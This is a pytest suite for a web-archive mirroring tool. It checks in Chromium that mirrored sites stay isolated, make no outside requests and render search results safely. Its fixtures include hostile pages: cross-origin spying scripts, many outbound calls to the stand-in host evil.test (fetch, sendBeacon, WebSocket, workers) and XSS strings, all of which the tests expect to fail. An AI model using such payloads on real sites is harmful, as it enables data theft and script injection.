"""A mirror in Chromium: hosts are apart, scripts find what the capture holds, nothing leaves; the entry page is accessible and finds."""

import time
import zlib
from collections.abc import Iterator
from importlib import resources
from pathlib import Path
from struct import pack
from typing import Any, Literal

import pytest
from packed import mirrored

from absolve.cli import main
from absolve.verifying.chromium import Chromium
from tests import browser_page
from tests.browser_online import Online, served
from tests.browser_page import Page
from tests.shapes import captures
from tests.shapes.captures import page

pytestmark = pytest.mark.slow
OUT = "evil.test"


def png(width: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return pack(">I", len(data)) + kind + data + pack(">I", zlib.crc32(kind + data))

    head = pack(">IIBBBBB", width, 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*one) for one in ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * (width + 1))), (b"IEND", b"")))


def font() -> bytes:
    """Return a font of the system: a browser loads no other bytes as one; empty without any."""
    return next((path.read_bytes() for path in sorted(Path("/usr/share/fonts").rglob("*.ttf"))), b"")


def with_cors(media_type: str, origins: str) -> str:
    return f"{media_type}\r\nAccess-Control-Allow-Origin: {origins}"


# a page of a.com that tries to read b.com, of which a mirror has links in its pages
SPY = b"""<!DOCTYPE html><meta charset=utf-8><title>spy</title><link rel=stylesheet href=//b.com/s.css><img src=//b.com/i.png>
<iframe id=f src=//b.com/secret.html></iframe><script>
const found = {}, at = name => location.origin.replace('a.com', 'b.com') + name;
const tried = async (name, what) => { try { found[name] = String(await what()) } catch (error) { found[name] = 'error' } };
const loaded = new Promise(done => addEventListener('load', done));
const done = (async () => {
  await loaded;
  for (const path of ['/b.com/secret.html', at('/secret.html'), at('/b.com/secret.html')])
    await tried('fetch ' + path.replace(/:.*0/, ''), async () => (await fetch(path)).text());
  await tried('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '/b.com/secret.html', false); x.send(); return x.responseText });
  await tried('no-cors', async () => (await fetch('/b.com/secret.html', {mode: 'no-cors'})).text());
  await tried('frame', () => document.getElementById('f').contentDocument.body.textContent);
  await tried('frame window', () => document.getElementById('f').contentWindow.secret);
  await tried('canvas', () => { const c = document.createElement('canvas'); c.getContext('2d').drawImage(document.images[0], 0, 0);
    return c.toDataURL() });
  await tried('sheet', () => document.styleSheets[0].cssRules.length);
  await tried('module', () => import('/b.com/secret.json'));
  await tried('storage', () => localStorage.getItem('secret') ?? 'error');
  await tried('cookie', () => document.cookie.includes('secret') ? document.cookie : 'error');
  await tried('domain', () => { document.domain = 'com.localhost'; return document.getElementById('f').contentWindow.secret });
  return {found, width: document.images[0].naturalWidth, color: getComputedStyle(document.body).color};
})();
</script>"""
SECRET = b"""<!DOCTYPE html><title>b</title><body>secret<script>var secret = 'secret'; localStorage.setItem('secret', 'secret');
document.cookie = 'secret=secret'</script>"""

# a page that works by the URLs of its host
APP = b"""<!DOCTYPE html><title>app</title><meta http-equiv=content-security-policy content="img-src 'self' cdn.net"><link rel=stylesheet href=style.css><script type=module src=/js/app.js></script>
<script>window.asked = (async () => ({
  api: await (await fetch('/api.json')).text(), query: await (await fetch('/api.json?q=1')).text(),
  relative: await (await fetch('data/x.json')).text(), gone: (await fetch('/gone')).status, path: location.pathname + location.search,
  cors: await (await fetch('../cdn.net/open.json')).text().catch(() => 'error'),
  closed: await fetch('../cdn.net/closed.json').then(r => r.text()).catch(() => 'error'),
  mine: await fetch('../cdn.net/mine.json').then(r => r.text()).catch(() => 'error'),
}))()</script><a href="/next/?page=2#here">next</a><img src=//cdn.net/i.png>"""
CSS = b"@import '//cdn.net/more.css'; @font-face { font-family: open; src: url(//cdn.net/open.ttf) } p { font-family: open }"

# Chromium connects to the host of a frame, without a request, before it asks the policy: http shows requests only
LEAVES = f"""<!DOCTYPE html><title>leaves</title><link rel=preconnect href=https://pre.{OUT}><link rel=dns-prefetch href=//dns.{OUT}>
<link rel=prefetch href=https://prefetch.{OUT}/><link rel=preload as=image href=https://preload.{OUT}/><link rel=icon href=https://icon.{OUT}/>
<link rel=stylesheet href=https://style.{OUT}/><link rel=manifest href=https://manifest.{OUT}/><link rel=modulepreload href=https://m.{OUT}/>
<script type=speculationrules>{{"prefetch": [{{"urls": ["https://rules.{OUT}/"]}}], "prerender": [{{"urls": ["https://render.{OUT}/"]}}]}}</script>
<img src=https://img.{OUT}/ srcset="https://set.{OUT}/ 2x"><script src=https://script.{OUT}/></script><iframe src=http://frame.{OUT}/></iframe>
<video src=https://video.{OUT}/ poster=https://poster.{OUT}/></video><object data=https://object.{OUT}/></object>
<embed src=https://embed.{OUT}/><form id=f method=post action=http://form.{OUT}/ target=t><input name=a></form><iframe name=t></iframe>
<style>body {{ background: url(https://css.{OUT}/) }} @import url(https://import.{OUT}/);</style>
<iframe srcdoc="<img src=https://srcdoc.{OUT}/>"></iframe><iframe src="data:text/html,<img src=https://data.{OUT}/>"></iframe>
<script>
const quiet = what => {{ try {{ const r = what(); r && r.catch && r.catch(() => 0) }} catch {{}} }};
quiet(() => fetch('https://fetch.{OUT}/', {{mode: 'no-cors'}})); quiet(() => navigator.sendBeacon('https://beacon.{OUT}/', 'x'));
quiet(() => new WebSocket('wss://socket.{OUT}/')); quiet(() => new EventSource('https://events.{OUT}/'));
quiet(() => new Worker('https://worker.{OUT}/')); quiet(() => import('https://module.{OUT}/'));
quiet(() => new Worker(URL.createObjectURL(new Blob(["fetch('https://blob.{OUT}/'); importScripts('https://scripts.{OUT}/')"]))));
quiet(() => document.getElementById('f').submit()); quiet(() => new Image().src = 'http://web.example/gone.png');
quiet(() => {{ const r = new XMLHttpRequest(); r.open('GET', 'https://xhr.{OUT}/'); r.send() }});
quiet(() => {{ const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:stun.{OUT}'}}]}}); p.createDataChannel('x');
  p.createOffer().then(o => p.setLocalDescription(o)) }});
quiet(() => new WebTransport('https://transport.{OUT}/'));
</script>""".encode()
WORKER = b"""<!DOCTYPE html><title>worker</title><script>window.asked = (async () => {
  const said = await navigator.serviceWorker.register('/sw.js').then(() => 'registered', error => error.name);
  return {said, left: (await navigator.serviceWorker.getRegistrations()).length, script: await (await fetch('/sw.js')).text()};
})()</script>"""


@pytest.fixture(scope="module")
def port(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    folder = tmp_path_factory.mktemp("served")
    json = "application/json"
    data = [
        page("http://a.com/spy.html", SPY),
        *(page("http://b.com/secret.html", SECRET), page("http://b.com/i.png", png(7), "image/png")),
        *(page("http://b.com/secret.json", b"{}", json), page("http://b.com/s.css", b"body { color: red }", "text/css")),
        *(page("https://app.net/", APP), page("https://app.net/style.css", CSS, "text/css")),
        page("https://app.net/js/app.js", b"import {b} from '/js/b.js?v=2'; window.module = b", "text/javascript"),
        page("https://app.net/js/b.js?v=2", b"export const b = 'b'", "text/javascript"),
        *(page("https://app.net/api.json", b"1", json), page("https://app.net/api.json?q=1", b"2", json)),
        *(page("https://app.net/data/x.json", b"3", json), page("https://app.net/next/?page=2", b"<title>next</title><p id=here>x")),
        page("https://cdn.net/open.json", b"open", with_cors(json, "*")),
        page("https://cdn.net/mine.json", b"mine", with_cors(json, "https://app.net")),
        page("https://cdn.net/closed.json", b"closed", with_cors(json, "https://other.net")),
        page("https://cdn.net/more.css", b"body { color: rgb(1, 2, 3) }", "text/css"),
        *(page("https://cdn.net/i.png", png(9), "image/png"), page("https://cdn.net/open.ttf", font(), with_cors("font/ttf", "*"))),
        *(page("http://out.com/", LEAVES), page("http://w.com/", WORKER)),
        page("http://w.com/sw.js", b"self.addEventListener('fetch', () => 0)", "text/javascript"),
    ]
    assert mirrored(folder, "c.warc", b"".join(data))[0] == 0
    with served(folder / "m") as found:
        yield found


def opened(online: Online, url: str) -> Page:
    return Page(online.chromium, url)


def test_no_host_reads_another(online: Online, port: int) -> None:
    found: dict[str, Any] = opened(online, f"http://a.com.localhost:{port}/spy.html").value("done")
    assert found["width"] == 7  # what is embedded works as on the web
    assert found["color"] == "rgb(255, 0, 0)"
    assert len(found["found"]) == 13
    assert set(found["found"].values()) <= {"error", "", "undefined"}, found["found"]


def test_scripts_find_what_the_capture_of_their_host_holds(online: Online, port: int) -> None:
    one = opened(online, f"http://127.0.0.1:{port}/app.net/index.html")
    assert one.value("asked") == {
        "api": "1", "query": "2", "relative": "3", "gone": 404, "path": "/", "cors": "open", "closed": "error", "mine": "mine",
    }
    assert one.value("location.host") == f"app.net.localhost:{port}"
    assert one.value("window.module") == "b"
    assert one.value("document.images[0].naturalWidth") == 9
    assert one.value("getComputedStyle(document.body).color") == "rgb(1, 2, 3)"
    if font():
        assert one.value("document.fonts.load('10px open').then(found => found[0].status)") == "loaded"
    one.do(lambda: one.page.click("a"))
    one.do(one.page.wait_for_load_state)
    assert one.value("location.pathname + location.search + location.hash") == "/next/?page=2#here"


def test_no_request_leaves_the_mirror(online: Online, port: int) -> None:
    online.trap.seen.clear()
    online.web.asked.clear()
    opened(online, f"http://out.com.localhost:{port}/")
    time.sleep(2)
    assert [line for line in online.trap.seen if OUT in line] == []
    assert online.web.asked == []


def test_no_service_worker_stays(online: Online, port: int) -> None:
    found = opened(online, f"http://w.com.localhost:{port}/").value("asked")
    assert found == {"said": "TypeError", "left": 0, "script": "self.addEventListener('fetch', () => 0)"}


# --- the entry page of a mirror in a real Chromium, from a disk -------------------------------------------------------

SEARCH = """(async text => {
  const input = document.getElementById('search');
  input.value = text; input.form.requestSubmit();
  return [document.getElementById('found').textContent, ...[...document.querySelectorAll('#results li')].map(one => one.innerText.trim())];
})"""


@pytest.fixture(scope="module")
def entry(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("mirror")
    hostile = b"<title>&lt;/script>&lt;img src=x onerror=document.title='harmed'>\xe2\x80\xae</title></script><p>Sea &lt;b>fog&lt;/b> </p>"
    pages = {
        "http://h/": b"<title>Start</title><body><form action=/search><a href=http://other/>o</a><img src=gone.png><script type=module src=a.js></script>",
        "http://h/a.js": b"fetch('x')",
        "http://h/deep/er/one": b"<title>One</title><body><p>The lamp of the lighthouse &amp; its keeper</p>",
        "http://h/x\"><script>document.title='harmed'</script>": hostile, "http://h/long": b"<title>" + b"x" * (1 << 20) + b"</title>",
    }
    records = (captures.page(url, data, "text/javascript" if url.endswith("js") else "text/html; charset=utf-8") for url, data in pages.items())
    (folder / "c.warc").write_bytes(b"".join(records))
    assert main(["mirror", str(folder / "c.warc"), "-o", str(folder / "m"), "-q"]) == 0
    return folder / "m" / "index.html"


@pytest.fixture(scope="module")
def chromium() -> Iterator[Chromium]:
    with Chromium(browser_page.program()) as browser:
        yield browser


def found(page: Page, text: str) -> Any:
    return page.value(f"{SEARCH}({text!r})")


def test_it_asks_for_nothing_and_texts_of_pages_do_no_harm(chromium: Chromium, entry: Path) -> None:
    page = Page(chromium, entry.as_uri())
    title = page.value("document.title")
    for text in ("fog", "script", "lamp"):
        found(page, text)
    assert page.value("document.title") == title == "Mirror of h"
    assert page.value("document.querySelectorAll('img, iframe').length") == 0
    assert [url for url in page.requests if not url.startswith("data:")] == [entry.as_uri()]
    assert page.reports == []


def test_the_search_finds_titles_paths_and_texts(chromium: Chromium, entry: Path) -> None:
    page = Page(chromium, entry.as_uri())
    assert found(page, "LAMP keeper")[0] == "1 page found"
    assert "The lamp of the lighthouse & its keeper" in found(page, "LAMP keeper")[1]
    assert page.value("[...document.querySelectorAll('#results mark')].map(one => one.textContent)") == ["lamp", "keeper"]
    assert found(page, "deep/er")[0] == "1 page found"
    assert found(page, "start")[0] == "1 page found"
    assert found(page, "<b>fog</b>")[0] == "1 page found"
    assert found(page, "nowhere") == ["No page found"]
    assert page.value("document.getElementById('pages').hidden")
    assert found(page, " ") == [""]
    assert not page.value("document.getElementById('pages').hidden")


def test_without_scripts_there_is_no_search_and_the_tree_opens(chromium: Chromium, entry: Path) -> None:
    page = Page(chromium, entry.as_uri(), scripts=False)
    shown = page.do(lambda: page.page.is_visible("#search"))
    assert not shown
    assert page.do(lambda: page.page.is_visible("#pages a"))


def test_a_reader_comes_to_search_and_pages_by_keyboard(chromium: Chromium, entry: Path) -> None:
    page = Page(chromium, entry.as_uri())
    reached = []
    for _ in range(12):
        page.do(lambda: page.page.keyboard.press("Tab"))
        reached.append(page.value("document.activeElement.id || document.activeElement.localName"))
    assert reached[0] == "a"  # the start page
    assert {"search", "summary"} <= set(reached)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_axe_finds_no_fault_and_nothing_is_wider_than_the_window(
    chromium: Chromium, entry: Path, width: int, scheme: Literal["light", "dark"]
) -> None:
    pytest.importorskip("axe_core_python", reason="the axe engine is not installed")
    page = Page(chromium, entry.as_uri(), width=width, scheme=scheme)
    page.value(resources.files("axe_core_python").joinpath("axe.min.js").read_text("utf-8") + ";0")
    for prepare in ("document.querySelectorAll('details').forEach(one => { one.open = true; })", f"{SEARCH}('lamp')"):
        page.value(prepare)
        violations = page.value("axe.run(document).then(done => done.violations.map(one => [one.impact, one.id, one.nodes[0].html]))")
        assert violations == []
        assert page.value("document.documentElement.scrollWidth") <= width
